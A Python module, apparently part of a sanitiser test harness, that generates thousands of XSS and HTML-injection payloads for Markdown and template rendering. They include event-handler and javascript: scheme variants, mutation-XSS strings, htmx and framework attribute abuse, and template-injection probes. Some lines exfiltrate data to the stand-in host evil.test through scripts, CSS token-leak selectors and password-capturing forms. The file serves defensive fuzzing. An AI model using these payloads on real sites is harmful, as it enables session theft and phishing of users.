"""The built-in payloads: what has broken Markdown renderers, sanitisers and template filters before."""

# Data: one payload a line, however long.
# ruff: noqa: E501, SIM905

from __future__ import annotations

import collections
import glob
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import TypedDict


class Payload(TypedDict):
    """id is FAMILY-NUMBER."""

    id: str
    fam: str
    payload: str


# fmt: off
EVENTS = """abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload beforexrselect begin blur bounce cancel canplay
canplaythrough change click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag
dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error finish focus focusin
focusout formdata fullscreenchange gesturestart gotpointercapture hashchange input invalid keydown keypress keyup load
loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover
mouseup mousewheel pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter
pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress promptaction promptdismiss
ratechange readystatechange repeat reset resize scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation
seeked seeking select selectionchange selectstart show slotchange start stalled storage submit suspend timeupdate toggle
touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection
unload volumechange waiting webkitanimationend webkitmouseforceup webkittransitionend wheel zoom""".split()
EVENT_TAGS = ["img src=x", "a href=#", "td", "svg", "body", "details open", "input autofocus", "x-y tabindex=1",
              "video src=x", "h2"]
TAGS_ALL = """a abbr acronym address animate animatemotion animatetransform annotation-xml applet area article aside audio b base
basefont bdi bdo bgsound big blink blockquote body br button canvas caption center cite code col colgroup command content data
datalist dd del desc details dfn dialog dir div dl dt element em embed fencedframe fieldset figcaption figure font footer foreignobject
form frame frameset h1 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing
main malignmark map mark marquee math menu menuitem meta meter mglyph mi mn mo ms mtext multicol nav nextid nobr noembed noframes
noscript object ol optgroup option output p param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search
section select selectedcontent set shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template
textarea tfoot th thead time title tr track tt u ul use var video wbr x-custom xmp xss""".split()

SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
    "\x01javascript:alert(1)", "\x1fjavascript:alert(1)", "\u00a0javascript:alert(1)", "\ufeffjavascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "javascript&#0000058alert(1)",
    "&#106;avascript:alert(1)", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&Tab;javascript:alert(1)", "&#1;javascript:alert(1)",
    "&#14;javascript:alert(1)", "javascript://%0aalert(1)", "javascript://x.test/%0d%0aalert(1)", "javascript:%61lert(1)",
    "javascript%3Aalert(1)", "jav&#x0A;ascript:alert(1)", "jav&#x0D;ascript:alert(1)", "jav\\nascript:alert(1)",
    "javascript\\:alert(1)", "javascript:alert(1)//http://x.test", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>", "DATA:text/html,x",
    "vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "jar:javascript:alert(1)", "view-source:javascript:1",
    "feed:javascript:alert(1)", "blob:http://app.test/1", "filesystem:http://app.test/temporary/x", "file:///etc/passwd",
    "about:blank", "ms-word:ofe|u|http://x.test/a.docx", "intent://x#Intent;scheme=http;end", "search-ms:query=x",
    "steam://run/1", "tel:+1", "sms:+1", "ftp://x.test/", "ws://x.test/", "//evil.test/x", "\\\\evil.test/x", "/\\evil.test/x",
    "/\t/evil.test/x", "https:evil.test", "http:/\\evil.test", "https://app.test@evil.test/", "https://evil.test\\@app.test/",
    "javascript:alert`1`", "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/", "javascript:'\\x3csvg onload=alert(1)>'",
]
LINK_FORMS = ["[t]({u})", "[t](<{u}>)", "[t]({u} \"title\")", "![t]({u})", "![t](<{u}> 'x')", "<{u}>", "[t][r]\n\n[r]: {u}",
              "[t][r]\n\n[r]: <{u}> \"x\"", "![t][r]\n\n[r]: {u}", "<a href=\"{u}\">t</a>", "<a href='{u}'>t</a>", "<img src=\"{u}\">",
              "[![t]({u})]({u})", "[^1]\n\n[^1]: [t]({u})", "| a |\n|---|\n| [t]({u}) |", "# [t]({u})", "<a href={u}>t</a>",
              "<form action=\"{u}\"><button>t</button></form>", "<iframe src=\"{u}\"></iframe>", "<svg><a xlink:href=\"{u}\"><text y=9>t</text></a></svg>"]

MXSS = r"""
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><a title="</style><img src onerror=alert(1)>"></p>
<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=alert(1)>"></annotation-xml></math>
<svg><foreignObject><math><mtext><style><img title="</style><img src=x onerror=alert(1)>"></mtext></math></foreignObject></svg>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<plaintext><p title="</plaintext><img src=x onerror=alert(1)>">
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">
<select><noscript><img src=x onerror=alert(1)></noscript></select>
<select><option><style></option></select><img src=x onerror=alert(1)></style>
<template><script>alert(1)</script></template>
<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>
<template><template><img src=x onerror=alert(1)></template></template>
<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<math><mi><img src=x onerror=alert(1)></mi></math>
<math href="javascript:alert(1)">x</math>
<math><mtext xlink:href="javascript:alert(1)">x</mtext></math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>
<svg><script>alert&#40;1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"/></svg>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>
<svg><set attributeName=href to=javascript:alert(1)><a><text y=20>x</text></a></set></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><image href=x onerror=alert(1)></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><discard onbegin=alert(1)></svg>
<svg/onload=alert(1)//
<svg><x><script>alert(1)</x></svg>
<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=alert(1)//"></svg>
<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)-->
<!-- --!><img src=x onerror=alert(1)>-->
<!-- <!-- --><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<?php echo 1 ?><img src=x onerror=alert(1)>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;
</p><img src=x onerror=alert(1)>
</article></main><script>alert(1)</script>
</article><img src=x onerror=alert(1)>
</div></div></div></body></html><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
--></script><script>alert(1)</script>
<a<b onmouseover=alert(1)>x
<img src="x` `<script>alert(1)</script>"` `>
<img src=x:x onerror=alert(1)//
<img/src/onerror=alert(1)>
<img src=x onerror=alert(1)/>
<img	src=x	onerror=alert(1)>
<img/**/src=x onerror=alert(1)>
<img src='x'onerror=alert(1)>
<img src=x onerror="&#97;lert(1)">
<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>
<IMG SRC=x ONERROR=alert(1)>
<img src=x oNeRrOr=alert(1)>
<img src=x one&#114;ror=alert(1)>
<img src="x" alt="" onerror="alert(1)"
<img src=x onerror
=alert(1)>
<<img src=x onerror=alert(1)>
<<script>alert(1)//<</script>
<script>alert(1)
<script/src=data:,alert(1)>
<script src=//evil.test/x.js></script>
<script type=module>alert(1)</script>
<script type=importmap>{"imports":{"a":"data:text/javascript,alert(1)"}}</script><script type=module>import "a"</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.test/"]}]}</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script x>alert(1)</script y>
<script
>alert(1)</script
>
<ScRiPt>alert(1)</sCrIpT>
<link rel=stylesheet href=//evil.test/x.css>
<link rel=import href=//evil.test/>
<link rel=prefetch href=//evil.test/>
<link rel=modulepreload href=//evil.test/x.js>
<link rel=dns-prefetch href=//evil.test/>
<style>@import '//evil.test/x.css';</style>
<style>*{background:url(//evil.test/x)}</style>
<style>input[name=csrfmiddlewaretoken][value^=a]{background:url(//evil.test/a)}</style>
<div style="background:url(//evil.test/x)">x</div>
<div style="position:fixed;inset:0;z-index:9999;background:#fff">overlay</div>
<div style="width:expression(alert(1))">x</div>
<div style="behavior:url(#default#time2)">x</div>
<p style="animation:x" onanimationstart=alert(1)>x</p>
<table background=//evil.test/x><tr><td background=//evil.test/y>x</table>
<body background=//evil.test/x onload=alert(1)>
<base href=//evil.test/>
<base target=_blank>
<meta http-equiv=refresh content="0;url=//evil.test/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta name=referrer content=unsafe-url>
<meta name=htmx-config content='{"selfRequestsOnly":false}'>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=//evil.test/></iframe>
<iframe src=javascript:alert(1)></iframe>
<fencedframe src=//evil.test/></fencedframe>
<portal src=//evil.test/></portal>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object type=text/html data=//evil.test/></object>
<embed src=javascript:alert(1)>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<applet code=x archive=//evil.test/></applet>
<frameset onload=alert(1)><frame src=//evil.test/></frameset>
<video src=//evil.test/x poster=//evil.test/y></video>
<video><source onerror=alert(1)></video>
<audio src=//evil.test/x autoplay></audio>
<picture><source srcset=//evil.test/x><img src=x></picture>
<img srcset="//evil.test/x 1x">
<img src=//evil.test/beacon.gif>
<img src="https://evil.test/b.png" referrerpolicy=unsafe-url>
<img src=/logout>
<img src=/api/incidents/1/delete>
<img lowsrc=//evil.test/x dynsrc=//evil.test/y>
<input type=image src=//evil.test/x>
<input onfocus=alert(1) autofocus>
<input type=password name=password>
<form action=//evil.test/><input name=password><button>Log in</button></form>
<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>
<button form=main-form formaction=//evil.test/>Save</button>
<textarea autofocus onfocus=alert(1)></textarea>
<select autofocus onfocus=alert(1)></select>
<keygen autofocus onfocus=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<dialog open>x<form method=dialog><button>y</button></form></dialog>
<marquee onstart=alert(1)>x</marquee>
<a href=x ping=//evil.test/>x</a>
<a href=x download=evil.exe>x</a>
<a href=x target=_blank rel=opener>x</a>
<a href=x attributionsrc=//evil.test/>x</a>
<img src=x attributionsrc=//evil.test/>
<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>y</div>
<button commandfor=p command=show-modal>x</button>
<a href=x interestfor=p>x</a>
<div contenteditable onfocus=alert(1) autofocus>x</div>
<div tabindex=1 onfocus=alert(1) id=x autofocus>x</div>
<div accesskey=x onclick=alert(1)>x</div>
<img usemap=#m src=x><map name=m><area href=javascript:alert(1) shape=default></map>
<img name=getElementById src=x>
<a id=config></a><a id=config name=selfRequestsOnly href=x></a>
<form id=htmx><input name=config></form>
<a id=main href=x>x</a>
<h2 id=csrf>x</h2>
<img id=currentScript name=currentScript src=x>
<a id=defaultView name=cookie href=x></a>
<form name=body></form>
<form id=document><input name=forms></form>
<input id=attributes name=attributes>
<div class="modal fixed inset-0 overlay">x</div>
<p class="messages error alert">Your session expired, log in at evil.test</p>
<span class="badge severity-sev1">SEV1</span>
<div hx-get=/api/me hx-trigger=load>x</div>
<div data-hx-get=/api/me data-hx-trigger=load>x</div>
<div hx-post=/incidents/1/delete hx-trigger="load">x</div>
<div hx-on:htmx:load="alert(1)">x</div>
<div hx-on="click: alert(1)">x</div>
<div data-hx-on:click="alert(1)">x</div>
<div hx-on--load="alert(1)">x</div>
<div hx-vals='js:{x:alert(1)}' hx-get=/x hx-trigger=load>x</div>
<div hx-headers='js:{x:alert(1)}' hx-get=/x hx-trigger=load>x</div>
<div hx-trigger="load[alert(1)]" hx-get=/x>x</div>
<div hx-get=//evil.test/ hx-trigger=load hx-request='{"credentials":true}'>x</div>
<div hx-ext=x hx-get=/x hx-trigger=revealed>x</div>
<div hx-swap-oob=true id=main>x</div>
<div hx-swap-oob="outerHTML:body">x</div>
<a hx-boost=true href=/logout>x</a>
<div hx-preserve id=main>x</div>
<div hx-history-elt>x</div>
<template hx-swap-oob=true><script>alert(1)</script></template>
<div _="on load call alert(1)">x</div>
<div data-script="on load call alert(1)">x</div>
<div x-data x-init="alert(1)">x</div>
<div x-html="'<img src=x onerror=alert(1)>'">x</div>
<div @click="alert(1)" :class="alert(1)">x</div>
<div v-html="x" v-on:click="alert(1)">x</div>
<div ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</div>
<div data-controller=x data-action="click->x#y">x</div>
<div data-bs-toggle=tooltip data-bs-html=true title="<img src=x onerror=alert(1)>">x</div>
<div data-turbo-frame=x>x</div>
<turbo-stream action=append target=main><template><script>alert(1)</script></template></turbo-stream>
{{ request.user.password }}{% load static %}{% debug %}{% include "x" %}
{{''.__class__.__mro__[1].__subclasses__()}}
{%25 csrf_token %25}${7*7}#{7*7}<%= 7*7 %>
<esi:include src="//evil.test/"/>
<!--#include file="/etc/passwd"-->
""".strip("\n")

MD_SPECIFIC = [
    "[a](x \"onmouseover=alert(1) \\\"\")", "[a](x '\"><img src=x onerror=alert(1)>')", "![\"onerror=alert(1) x=\"](x)",
    "![a'\"`onerror=alert(1)](x)\\", "[<img src=x onerror=alert(1)>](x)", "[a](<x\" onmouseover=alert(1) y=\">)",
    "# h {: #x onclick=alert(1) }", "para\n{: onclick=alert(1) style=color:red }", "[a](x){: onclick=alert(1) }",
    "*x*{: #main .modal hx-get=/x }", "# a {#main}", "```js onload=alert(1)\nx\n```", "``` {.js onclick=alert(1)}\nx\n```",
    "```\"><script>alert(1)</script>\nx\n```", "```<img/src=x/onerror=alert(1)>\nx\n```", "~~~ \" onmouseover=alert(1) \"\nx\n~~~",
    "```\n</code></pre><script>alert(1)</script>\n```", "    </code></pre><script>alert(1)</script>", "`</code><script>alert(1)</script>`",
    "``<img src=x onerror=alert(1)>``", "*[X]: \" onmouseover=alert(1) \"\n\nX", "*[<b>]: <img src=x onerror=alert(1)>\n\n<b>",
    "[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: x", "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^a b]: x\n\n[^a b]", "[TOC]\n\n# <img src=x onerror=alert(1)>", "[TOC]\n\n# [a](javascript:alert(1))", "# \" onclick=alert(1) \"",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |", "| a |\n|:--\" onclick=alert(1)|\n| b |",
    "Term <script>alert(1)</script>\n:   <img src=x onerror=alert(1)>", "- [x] <img src=x onerror=alert(1)>", "- [ ] [a](javascript:alert(1))",
    "> <script>alert(1)</script>", "> > > <img src=x onerror=alert(1)>", "1. <svg onload=alert(1)>", "<div markdown=1>\n*x* <script>alert(1)</script>\n</div>",
    "<div markdown=\"1\" onclick=alert(1)>\n# x\n</div>", "<p>\n\n<script>\n\nalert(1)\n\n</script>\n\n</p>", "<script>\n\nalert(1)\n\n</script>",
    "a <script>alert(1)</script> b", "a\n<script>alert(1)</script>\nb", "<!-- \n\n--><img src=x onerror=alert(1)>", "<!-- unclosed\n\n<img src=x onerror=alert(1)>",
    "<![CDATA[\n\n<img src=x onerror=alert(1)>\n\n]]>", "<!x>", "<!", "<![", "<![x", "<!DOCTYPE", "<?", "</", "<a", "<a href=\"", "&#", "&#x", "\x02", "\x03",
    "\x02wzxhzdk:0\x03", "\x02klzzwxh:0000\x03", "\x02amp\x03", "<script>alert(1)</script>\x02wzxhzdk:0\x03", "&#2;wzxhzdk:0&#3;<b>x</b>",
    "STXwzxhzdk:0ETX", "[a]: javascript:alert(1)\n[a]", "[a]: <javascript:alert(1)> \"<img src=x onerror=alert(1)>\"\n\n[a]",
    "[a]:\n  javascript:alert(1)\n\n[a]", "[citelol]: (javascript:alert(1))", "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<x@y.z\"onclick=alert(1)>",
    "<http://x.test/\"onmouseover=alert(1)//>", "<http://x.test/<script>alert(1)</script>>", "http://x.test/\"onmouseover=alert(1)//",
    "www.x.test/<script>alert(1)</script>", "mailto:a@b.c?subject=<script>alert(1)</script>", "<mailto:a@b.c\" onclick=alert(1)>",
    "@<script>alert(1)</script>", "@x\"onmouseover=alert(1)//", "#INC-1<script>alert(1)</script>", "INC-1\"onmouseover=alert(1)",
    "[[<script>alert(1)</script>]]", "[[javascript:alert(1)|x]]", "[a](javas\\cript:alert(1))", "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))", "[a](javascript:alert&#40;1&#41;)", "[a](jav	ascript:alert(1))", "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "\\<script>alert(1)\\</script>", "\\\\<script>alert(1)</script>", "<scr\\ipt>alert(1)</scr\\ipt>", "*<script>*alert(1)*</script>*", "_<img src=x_ onerror=alert(1)>",
    "**<img src=x **onerror=alert(1)>", "<im*g src=x onerror=alert(1)>*", "[a](x)<script>alert(1)</script>", "![a](x)\" onerror=alert(1)", "---\ntitle: <script>alert(1)</script>\n---\n",
    "$$<script>alert(1)</script>$$", "\\(<img src=x onerror=alert(1)>\\)", "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]-->B; click A \"javascript:alert(1)\"\n```",
    "\ud800<script>alert(1)</script>", "\u202e<script>alert(1)</script>", "\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "<img src=x o\x00nerror=alert(1)>",
    "\ufeff<script>alert(1)</script>", "\u2028<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<ſcript>alert(1)</ſcript>", "<ımg src=x onerror=alert(1)>", "<İmg src=x onerror=alert(1)>",
    "<img src=x onerror\u00a0=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>", "<img\x0bsrc=x onerror=alert(1)>", "a" * 3000 + "<script>alert(1)</script>",
    "<" * 500 + "script>alert(1)</script>", "<div>" * 300 + "<script>alert(1)</script>", "<b>" * 520 + "<img src=x onerror=alert(1)>", "<table>" * 60 + "<img src=x onerror=alert(1)>",
    "<div>" * 600 + "<math><mtext><style><img title='</style><img src=x onerror=alert(1)>'>", "<a>" * 200 + "<svg onload=alert(1)>", "<form>" * 5 + "<svg><style></form><img src=x onerror=alert(1)>",
    "> " * 60 + "<script>alert(1)</script>", "- " * 60 + "<script>alert(1)</script>", "[" * 60 + "a](javascript:alert(1))", "*" * 60 + "<script>alert(1)</script>",
]
WRAPPERS = {
    "para": "before {p} after", "after-para": "text\n\n{p}\n\ntext", "list": "- {p}\n- b", "olist": "1. {p}\n2. b", "nested-list": "- a\n    - {p}",
    "quote": "> {p}", "heading": "# {p}", "setext": "{p}\n===", "table": "| h |\n|---|\n| {p} |", "table-head": "| {p} |\n|---|\n| c |", "link-text": "[{p}](/x)",
    "link-title": "[x](/x \"{p}\")", "alt": "![{p}](/media/x.png)", "bold": "**{p}**", "code": "`{p}`", "fence": "```\n{p}\n```", "fence-info": "```{p}\nx\n```",
    "indented": "    {p}", "footnote": "[^1]\n\n[^1]: {p}", "ref": "[x]\n\n[x]: /x \"{p}\"", "task": "- [ ] {p}", "html-div": "<div>\n{p}\n</div>", "html-md": "<div markdown=1>\n{p}\n</div>",
    "html-attr": "<p title=\"{p}\">x</p>", "comment": "<!-- {p} -->", "details": "<details><summary>{p}</summary>\n\n{p}\n\n</details>", "unclosed-b": "<b>{p}", "unclosed-attr": "<a title='{p}>x",
    "escaped": "\\{p}", "double": "{p}{p}", "split": "{p}\n\n{p}", "toc": "[TOC]\n\n## {p}", "deflist": "Term\n:   {p}", "abbr": "*[X]: {p}\n\nX", "linkref-dest": "[x](<{p}>)", "autolink": "<http://x.test/{p}>",
}
REPRESENTATIVE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "\" onmouseover=\"alert(1)",
    "<a href=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "![x](javascript:alert(1))", "<iframe src=javascript:alert(1)></iframe>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "</p></article></main><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "</textarea></title></style><script>alert(1)</script>",
    "<div hx-get=/x hx-trigger=load>x</div>", "<style>*{background:url(//evil.test/x)}</style>", "<form action=//evil.test/><input name=password></form>", "<base href=//evil.test/>", "<meta http-equiv=refresh content=\"0;url=//evil.test/\">",
    "<details open ontoggle=alert(1)>", "<!--<img src=x onerror=alert(1)>-->", "`<script>alert(1)</script>`", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "<img src=//evil.test/b.gif>", "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)", "<h1 id=main class=modal style=position:fixed;inset:0>x</h1>", "<x-y onclick=alert(1) tabindex=0>x</x-y>", "{{7*7}}<template><script>alert(1)</script></template>",
]

# fmt: on


def _families() -> Iterator[tuple[str, str]]:
    for tag in EVENT_TAGS:
        yield from (("event", f"<{tag} on{event}=alert(1)>x") for event in EVENTS)
    for tag in TAGS_ALL:
        yield (
            "tag",
            f"<{tag} onclick=alert(1) onerror=alert(1) onload=alert(1) src=x href=javascript:alert(1) style=color:red id=main name=main "
            f"class=modal hx-get=/x>x<script>alert(1)</script></{tag}>y",
        )
        yield "tag-md", f"text <{tag}>*x* [a](javascript:alert(1)) <img src=x onerror=alert(1)></{tag}>"
    for form in LINK_FORMS:
        yield from (("scheme", form.replace("{u}", url)) for url in SCHEMES)
    yield from (("html", payload) for payload in re.split(r"\n(?=[<{])", MXSS))
    yield from (("md", payload) for payload in MD_SPECIFIC)
    for wrapper in WRAPPERS.values():
        yield from (("wrap", wrapper.replace("{p}", payload)) for payload in REPRESENTATIVE)


def builtin() -> list[Payload]:
    """All of them, 4,446, with ids that stay the same."""
    counted: collections.Counter[str] = collections.Counter()
    payloads: list[Payload] = []
    for family, payload in _families():
        counted[family] += 1
        payloads.append({"id": f"{family}-{counted[family]}", "fam": family, "payload": payload})
    return payloads


def load_corpus(path: str) -> list[Payload]:
    """A file or directory: .json (list of strings or {"id", "payload"}), .txt (one a line)."""
    names = sorted(glob.glob(os.path.join(path, "*"))) if os.path.isdir(path) else [path]
    return [payload for name in names for payload in _read(Path(name))]


def _read(path: Path) -> Iterator[Payload]:
    text = path.read_text(encoding="utf-8", errors="surrogateescape")
    entries = json.loads(text) if path.suffix == ".json" else text.split("\n")
    for number, entry in enumerate(entries):
        payload = entry.get("payload", entry.get("markdown")) if isinstance(entry, dict) else entry
        if isinstance(payload, str) and payload.strip():
            yield {"id": f"{path.stem}-{number}", "fam": path.stem, "payload": payload}
